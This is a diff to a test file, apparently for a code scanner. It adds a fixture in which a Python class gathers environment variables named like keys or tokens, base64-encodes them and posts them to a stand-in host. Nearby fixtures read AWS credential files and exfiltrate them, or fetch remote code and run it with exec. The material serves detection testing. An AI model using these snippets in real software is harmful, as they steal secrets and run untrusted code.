@@ -125,6 +125,11 @@ describe('what reaches a sink decides, and its benign twin is silent', () => {
       `import os\ndef grab():\n    with open("/root/.aws/credentials") as f:\n        return f.read()\ndef send(d):\n    ${post('d').replace('\n', '\n    ')}\nsend(grab())`,
       'critical credential-theft',
     ],
+    [
+      'the variables that look like keys, collected and sent by a class',
+      'import os, requests, base64, json\nclass C:\n    @staticmethod\n    def grab():\n        found = {}\n        for key, item in os.environ.items():\n            if any(word in key for word in ["KEY", "TOKEN"]):\n                found[key] = item\n        return found\n    @staticmethod\n    def send(found):\n        body = base64.b64encode(json.dumps({"e": found}).encode()).decode()\n        requests.post("https://in.example/d", json={"data": body})\nc = C()\nc.send(c.grab())\n',
+      'critical credential-theft',
+    ],
     ['an answer that is run', 'import requests\nexec(requests.get("https://in.example/x").text)', 'critical no-eval'],
     [
       'a decoded text that is run',
